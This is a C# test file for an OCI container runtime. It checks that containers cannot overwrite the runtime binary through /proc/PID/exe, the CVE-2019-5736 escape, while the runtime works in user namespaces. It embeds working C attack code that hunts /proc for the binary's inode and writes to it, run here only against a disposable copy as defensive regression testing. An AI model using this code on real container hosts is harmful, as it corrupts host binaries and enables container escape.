using OciRuntime.Runtime.Tests.Harness;
using OciRuntime.Spec;

namespace OciRuntime.Runtime.Tests;

/// <summary>
/// CVE-2019-5736 on the user-namespace paths (issue 18): a root container sharing the host's pid namespace, with
/// Docker's default capabilities (no CAP_SYS_PTRACE), polls <c>/proc/*/exe</c> of every process while another container
/// is started with a user namespace, with an idmapped mount (the mapping helper), and exec'd into with a user namespace.
/// A process in a user namespace that host root owns is within reach of any host-root process, capabilities or not (the
/// kernel gives the owner of a user namespace every capability in it), unless it is non-dumpable with its memory owned
/// by the host's user namespace. So every ocirun process there must be non-dumpable from its birth, and the program
/// exec'd inside the user namespace must not be the host binary's inode. The attacker counts every process whose
/// <c>/proc/PID/exe</c> it can stat as the binary's inode, holds those handles, and once the victim's runtime is done
/// reopens them for writing (the published exploit). The victims run a COPY of ocirun, so a successful attack breaks
/// only the copy.
/// </summary>
public sealed class SecurityUsernsEscapeTests : IDisposable
{
    private const string AttackerSource = """
        #define _GNU_SOURCE
        #include <dirent.h>
        #include <fcntl.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <sys/stat.h>
        #include <unistd.h>

        /* attack DEV INO STOPFILE READYFILE */
        int main(int argc, char **argv) {
            if (argc != 5) return 2;
            dev_t dev = strtoull(argv[1], 0, 10);
            ino_t ino = strtoull(argv[2], 0, 10);
            int held[512], nheld = 0, hits = 0, writable = 0, rounds = 0;
            setvbuf(stdout, 0, _IOLBF, 0);
            close(open(argv[4], O_CREAT | O_WRONLY, 0644));
            while (access(argv[3], F_OK) != 0) {
                rounds++;
                DIR *d = opendir("/proc");
                if (!d) { perror("opendir /proc"); return 3; }
                struct dirent *e;
                while ((e = readdir(d)) != 0) {
                    if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
                    char path[64];
                    struct stat st;
                    snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
                    if (stat(path, &st) != 0 || st.st_dev != dev || st.st_ino != ino) continue;
                    if (hits++ < 20) {
                        char comm[80] = "";
                        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
                        int c = open(path, O_RDONLY);
                        if (c >= 0) { ssize_t n = read(c, comm, sizeof comm - 1); if (n > 0) { comm[n] = 0; for (ssize_t i = 0; i < n; i++) if (!comm[i]) comm[i] = ' '; } close(c); }
                        printf("hit pid %s: %s\n", e->d_name, comm);
                    }
                    snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
                    int w = open(path, O_WRONLY);
                    if (w >= 0) { writable++; close(w); }
                    if (nheld < 512) { int fd = open(path, O_PATH); if (fd >= 0) held[nheld++] = fd; }
                }
                closedir(d);
            }
            int after = 0;
            for (int i = 0; i < nheld; i++) {
                char path[64];
                snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
                int w = open(path, O_WRONLY);
                if (w >= 0) { if (pwrite(w, "pwned", 5, 1 << 20) == 5) after++; close(w); }
            }
            printf("rounds=%d hits=%d held=%d writable-now=%d written-after=%d\n", rounds, hits, nheld, writable, after);
            return 0;
        }
        """;

    // Docker's default capability set: what "a root container with default capabilities" has.
    private static readonly List<string> DockerCapabilities =
    [
        "CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_MKNOD", "CAP_NET_RAW", "CAP_SETGID", "CAP_SETUID",
        "CAP_SETFCAP", "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_SYS_CHROOT", "CAP_KILL", "CAP_AUDIT_WRITE",
    ];

    private readonly string _dir = Directory.CreateTempSubdirectory("ocirun-usernsesc-").FullName;
    private readonly string _copy;

    public SecurityUsernsEscapeTests()
    {
        File.SetUnixFileMode(_dir, (UnixFileMode)0x1ed); // 0755: the container's root (a mapped uid) must reach the copy's directory
        _copy = Path.Combine(_dir, "ocirun");
        File.Copy(Ocirun.DefaultBinary, _copy);
        File.SetUnixFileMode(_copy, (UnixFileMode)0x1ed);
    }

    public enum Trigger
    {
        /// <summary>create (run) with a new user namespace: the init's raw child, then `ocirun init` in the namespace.</summary>
        CreateWithUserNamespace,

        /// <summary>create (run) with an idmapped mount: the helper cloned into a user namespace for the mapping.</summary>
        IdmappedMount,

        /// <summary>exec into a user-namespaced container: the raw child joins the user namespace, then `ocirun init`.</summary>
        ExecIntoUserNamespace,
    }

    [Theory]
    [InlineData(Trigger.CreateWithUserNamespace)]
    [InlineData(Trigger.IdmappedMount)]
    [InlineData(Trigger.ExecIntoUserNamespace)]
    public void No_container_process_can_reach_the_host_binary_while_ocirun_works_in_a_user_namespace(Trigger trigger)
    {
        var before = SecurityTestBundle.Sha256(_copy);
        var stat = Ocirun.Exec("stat", ["-L", "-c", "%d %i", _copy]).Stdout.Trim().Split(' ');

        using var attacker = SecurityTestBundle.Create();
        File.Copy(CompileAttacker(), Path.Combine(attacker.Rootfs, "attack"));
        File.SetUnixFileMode(Path.Combine(attacker.Rootfs, "attack"), (UnixFileMode)0x1ed);
        attacker.Spec.Process!.Args = ["/attack", stat[0], stat[1], "/tmp/stop", "/tmp/ready"];
        attacker.Spec.Linux!.Namespaces!.RemoveAll(n => n.Type == NamespaceType.Pid); // the host's pid namespace
        var caps = attacker.Spec.Process.Capabilities!;
        caps.Bounding = [.. DockerCapabilities];
        caps.Effective = [.. DockerCapabilities];
        caps.Permitted = [.. DockerCapabilities];
        caps.Inheritable = [];
        caps.Ambient = [];
        var attackerId = SecurityTestBundle.NewId();
        var (created, _) = attacker.CreateDetached(attackerId, detachedRun: true);
        created.ExitCode.Should().Be(0, created.ToString());
        var victim = UsernsBundle.Create("ocirun-usernsesc-victim-");
        var victimId = "usesc-" + Guid.NewGuid().ToString("N")[..10];
        var stateRoot = Path.Combine(_dir, "state");
        CommandResult Victim(params string[] args) => Ocirun.Exec(_copy, ["--root", stateRoot, .. args]);
        try
        {
            WaitFor(() => File.Exists(Path.Combine(attacker.Rootfs, "tmp/ready")), "the attacker to start");
            switch (trigger)
            {
                case Trigger.CreateWithUserNamespace:
                    victim.AddUserNamespace(100000, 65536);
                    victim.SetArgs("true");
                    for (var i = 0; i < 6; i++) Victim("run", "--bundle", victim.Path, $"{victimId}-{i}").ExitCode.Should().Be(0);
                    break;
                case Trigger.IdmappedMount:
                    var source = Path.Combine(_dir, "idmapped");
                    Directory.CreateDirectory(source);
                    victim.Spec.Mounts!.Add(new Mount
                    {
                        Destination = "/mnt",
                        Type = "bind",
                        Source = source,
                        Options = ["bind"],
                        UidMappings = [new LinuxIdMapping { ContainerId = 0, HostId = 100000, Size = 65536 }],
                        GidMappings = [new LinuxIdMapping { ContainerId = 0, HostId = 100000, Size = 65536 }],
                    });
                    victim.SetArgs("true");
                    for (var i = 0; i < 10; i++)
                    {
                        var r = Victim("run", "--bundle", victim.Path, $"{victimId}-{i}");
                        r.ExitCode.Should().Be(0, r.ToString());
                    }
                    break;
                case Trigger.ExecIntoUserNamespace:
                    victim.AddUserNamespace(100000, 65536);
                    victim.SetArgs("sleep", "1000");
                    var run = Ocirun.Exec("sh", ["-c", $"exec {_copy} --root {stateRoot} run -d --bundle {victim.Path} {victimId} </dev/null >/dev/null 2>&1"]);
                    run.ExitCode.Should().Be(0, run.ToString());
                    for (var i = 0; i < 10; i++) Victim("exec", victimId, "true").ExitCode.Should().Be(0);
                    Victim("delete", "--force", victimId).ExitCode.Should().Be(0);
                    break;
            }
            // No ocirun process of the victim is left: the attacker now reopens what it holds, as the exploit does.
            File.WriteAllText(Path.Combine(attacker.Rootfs, "tmp/stop"), "");
            WaitFor(() => File.ReadAllText(attacker.OutputFile(attackerId)).Contains("written-after=", StringComparison.Ordinal), "the attacker's report");
            var report = File.ReadAllText(attacker.OutputFile(attackerId));
            report.Should().MatchRegex(@"rounds=[1-9]", "the attacker must have polled /proc");
            report.Should().Contain("hits=0 held=0 writable-now=0 written-after=0",
                "no process a container can see may show the host binary's inode as its /proc/PID/exe");
        }
        finally
        {
            File.WriteAllText(Path.Combine(attacker.Rootfs, "tmp/stop"), "");
            foreach (var dir in Directory.Exists(stateRoot) ? Directory.GetDirectories(stateRoot) : [])
                Victim("delete", "--force", Path.GetFileName(dir));
            attacker.Command("delete", "--force", attackerId);
            victim.Dispose();
        }
        SecurityTestBundle.Sha256(_copy).Should().Be(before, "the ocirun binary must be unchanged");
    }

    private string CompileAttacker()
    {
        var source = Path.Combine(_dir, "attack.c");
        var exe = Path.Combine(_dir, "attack");
        if (File.Exists(exe)) return exe;
        File.WriteAllText(source, AttackerSource);
        var build = Ocirun.Exec("gcc", ["-O2", "-static", "-o", exe, source]);
        build.ExitCode.Should().Be(0, build.Stderr);
        return exe;
    }

    private static void WaitFor(Func<bool> condition, string what, int timeoutMs = 30_000)
    {
        var until = Environment.TickCount64 + timeoutMs;
        while (!condition())
        {
            if (Environment.TickCount64 > until) throw new TimeoutException($"timed out waiting for {what}");
            Thread.Sleep(20);
        }
    }

    /// <inheritdoc />
    public void Dispose()
    {
        try
        {
            Directory.Delete(_dir, recursive: true);
        }
        catch (IOException)
        {
        }
    }
}
